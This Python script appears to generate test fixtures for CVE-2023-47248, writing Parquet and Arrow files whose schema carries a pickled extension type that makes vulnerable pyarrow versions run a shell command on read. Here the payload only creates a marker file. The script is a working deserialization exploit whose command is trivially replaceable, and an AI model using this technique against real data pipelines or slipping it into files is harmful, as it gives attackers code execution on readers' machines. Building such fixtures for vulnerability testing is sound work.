"""Makes columns/: files whose schema has an extension type as pyarrow before 14.0.1 kept it, a pickle (CVE-2023-47248), and a plain one.

Needs pyarrow==13.0.0 and numpy<2. Reading the first two with it runs `echo > fired`.
"""

import os
import pathlib

import pyarrow
import pyarrow.parquet

FOLDER = pathlib.Path(__file__).parent / "columns"


class Evil(pyarrow.PyExtensionType):
    def __init__(self):
        super().__init__(pyarrow.int8())

    def __reduce__(self):
        return os.system, ("echo > fired",)


plain = pyarrow.array([1], pyarrow.int8())
table = pyarrow.table({"a": pyarrow.ExtensionArray.from_storage(Evil(), plain)})
pyarrow.parquet.write_table(table, FOLDER / "extension.parquet", compression="NONE", use_dictionary=False, write_statistics=False)
with pyarrow.OSFile(str(FOLDER / "extension.arrow"), "wb") as file, pyarrow.ipc.new_file(file, table.schema) as writer:
    writer.write_table(table)
pyarrow.parquet.write_table(pyarrow.table({"a": plain}), FOLDER / "plain.parquet")
